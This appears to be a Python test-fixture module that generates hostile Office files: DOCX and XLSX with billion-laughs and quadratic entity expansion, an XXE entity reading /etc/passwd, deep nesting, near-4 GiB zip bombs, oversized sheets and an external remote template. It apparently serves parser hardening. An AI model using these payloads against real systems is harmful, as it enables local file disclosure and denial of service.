"""DOCX and XLSX that expand, nest, or refer to what is not theirs."""

from __future__ import annotations

import zipfile
import zlib
from io import BytesIO

import openpyxl

from .packing import deflated, packed_part, packed_whole
from .zip_attacks import Packed, raw_zip, zipped

_ALMOST_FOUR_GIB = 2**32 - 2**24
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_TYPES = (
    f'{_XML}<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/>'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
_RELATIONS = (
    f'{_XML}<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
    'relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
_LAUGHS = "".join(
    f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' if n else '<!ENTITY l0 "Facility">' for n in range(10)
)
_LAUGHING = f"<!DOCTYPE x [{_LAUGHS}]>"
_OUTSIDE = '<!DOCTYPE x [<!ENTITY out SYSTEM "file:///etc/passwd">]>'


def _docx(body: str, doctype: str = "") -> bytes:
    document = f"{_XML}{doctype}<w:document {_W}><w:body>{body}</w:body></w:document>"
    parts = {"[Content_Types].xml": _TYPES, "_rels/.rels": _RELATIONS}
    parts["word/document.xml"] = document
    return zipped({name: text.encode() for name, text in parts.items()})


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def laughing_docx() -> bytes:
    """A billion laughs in a paragraph."""
    return _docx(_paragraph("&l9;"), _LAUGHING)


def outside_docx() -> bytes:
    """A paragraph that is a file of the machine."""
    return _docx(_paragraph("Facility A &out;"), _OUTSIDE)


def quadratic_docx() -> bytes:
    """One long entity, many times."""
    doctype = f'<!DOCTYPE x [<!ENTITY a "{"Facility " * 20_000}">]>'
    return _docx(_paragraph("&a;" * 20_000), doctype)


def nested_docx(depth: int = 100_000) -> bytes:
    """Content controls and runs within each other."""
    return _docx("<w:sdt>" * depth + _paragraph("Facility A") + "</w:sdt>" * depth)


def nested_tables_docx(depth: int = 60) -> bytes:
    """Tables within each other, as deep as a parser lets them be."""
    return _docx(
        "<w:tbl><w:tr><w:tc>" * depth + _paragraph("Facility A") + "</w:tc></w:tr></w:tbl>" * depth
    )


def docx_bomb() -> bytes:
    """A paragraph of nearly four gigabytes."""
    whole = _parts(_docx(_paragraph("Facility A")))
    return _blown_up(whole, "word/document.xml", b"Facility A")


def docx_of_many_paragraphs(num: int = 400_000) -> bytes:
    """Far more paragraphs than any agreement has."""
    return _docx(_paragraph("Facility A") * num)


def outside_template_docx() -> bytes:
    """A document whose template is on somebody's server."""
    whole = {"[Content_Types].xml": _TYPES.encode(), "_rels/.rels": _RELATIONS.encode()}
    relations = _RELATIONS.replace("word/document.xml", "http://192.0.2.1/a.dotx").replace(
        'Id="r1"', 'Id="r9" TargetMode="External"'
    )
    document = f"{_XML}<w:document {_W}><w:body>{_paragraph('Facility A')}</w:body></w:document>"
    whole |= {
        "word/document.xml": document.encode(),
        "word/_rels/document.xml.rels": relations.encode(),
    }
    return zipped(whole)


_SHARED = '<sheetData><row><c t="s"><v>0</v></c></row></sheetData>'
_STRINGS = (
    '<Override PartName="/xl/sharedStrings.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.sharedStrings+xml"/>'
)


def _xlsx(sheet: str | None = None, strings: str | None = None, doctype: str = "") -> bytes:
    """A workbook as openpyxl writes it, with the sheet or the texts replaced."""
    book = openpyxl.Workbook()
    book.active.append(["Facility A", 1])
    target = BytesIO()
    book.save(target)
    parts = _parts(target.getvalue())
    head = f'{_XML}{doctype}<%s xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
    if sheet is not None:
        parts["xl/worksheets/sheet1.xml"] = (head % "worksheet" + sheet + "</worksheet>").encode()
    if strings is not None:
        types = parts["[Content_Types].xml"].decode()
        parts["[Content_Types].xml"] = types.replace("</Types>", f"{_STRINGS}</Types>").encode()
        parts["xl/sharedStrings.xml"] = (head % "sst" + strings + "</sst>").encode()
    return zipped(parts)


def _parts(content: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(BytesIO(content)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


def laughing_xlsx() -> bytes:
    """A billion laughs among the shared texts."""
    return _xlsx(_SHARED, strings="<si><t>&l9;</t></si>", doctype=_LAUGHING)


def outside_xlsx() -> bytes:
    """A shared text that is a file of the machine."""
    return _xlsx(_SHARED, strings="<si><t>&out;</t></si>", doctype=_OUTSIDE)


def largest_xlsx() -> bytes:
    """A sheet that says it is as large as can be, with its first and last cell."""
    cell = '<row r="%d"><c r="%s%d"><v>1</v></c></row>'
    rows = cell % (1, "A", 1) + cell % (1_048_576, "XFD", 1_048_576)
    return _xlsx(f'<dimension ref="A1:XFD1048576"/><sheetData>{rows}</sheetData>')


def wide_rows_xlsx(num: int = 20_000) -> bytes:
    """Thousands of rows whose only cell is in the last column."""
    rows = "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, num + 1))
    return _xlsx(f"<sheetData>{rows}</sheetData>")


def many_cells_xlsx(num_rows: int = 60_000, num_columns: int = 20) -> bytes:
    """More than a million cells of one digit."""
    cells = "<c><v>1</v></c>" * num_columns
    return _xlsx(f"<sheetData>{f'<row>{cells}</row>' * num_rows}</sheetData>")


def long_cells_xlsx(num: int = 2_000) -> bytes:
    """One text of a hundred kilobytes, shown in thousands of cells."""
    cell = '<row><c t="s"><v>0</v></c></row>'
    text = f"<si><t>{'Facility ' * 11_000}</t></si>"
    return _xlsx(f"<sheetData>{cell * num}</sheetData>", text)


def xlsx_bomb() -> bytes:
    """A workbook with a shared text of nearly four gigabytes."""
    whole = _parts(_xlsx(_SHARED, strings="<si><t>Facility</t></si>"))
    return _blown_up(whole, "xl/sharedStrings.xml", b"Facility")


def _blown_up(parts: dict[str, bytes], name: str, word: bytes) -> bytes:
    """The parts as a ZIP, in one of them a word in place of which stand gigabytes of spaces."""
    files = {
        part: Packed(packed_whole(content), len(content), zlib.crc32(content))
        for part, content in parts.items()
    }
    head, _, tail = parts[name].partition(word)
    blown = packed_part(head) + deflated(b" ", _ALMOST_FOUR_GIB)[:-2] + packed_whole(tail)
    files[name] = Packed(blown, len(head) + _ALMOST_FOUR_GIB + len(tail))
    return raw_zip(files)
